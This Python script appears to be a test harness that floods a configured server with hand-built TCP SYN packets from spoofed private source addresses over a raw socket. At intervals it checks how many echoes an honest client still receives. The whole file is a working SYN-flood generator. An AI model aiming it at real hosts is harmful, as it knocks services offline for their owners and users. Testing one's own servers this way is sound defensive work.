"""COUNT SYNs from addresses that nobody has, while an honest client comes now and then."""
import random, socket, struct
from client import COUNT, HOST, PORT, connect, echoes

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton(HOST)
r = random.Random(1)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn():
    source = bytes((10, 200, r.randrange(256), r.randrange(1, 255)))
    fixed = struct.pack("!HHIIBBHHH", r.randrange(1024, 65536), PORT, r.getrandbits(32), 0, 0x60, 2, 65535, 0, 0)
    segment = fixed + b"\x02\x04\x05\xb4"
    pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    return header + segment


served = 0
for i in range(COUNT):
    raw.sendto(syn(), (HOST, 0))
    if i % (COUNT // 20) == 0:
        with connect() as honest:
            served += echoes(honest, f"between {i}")
print("served", served)
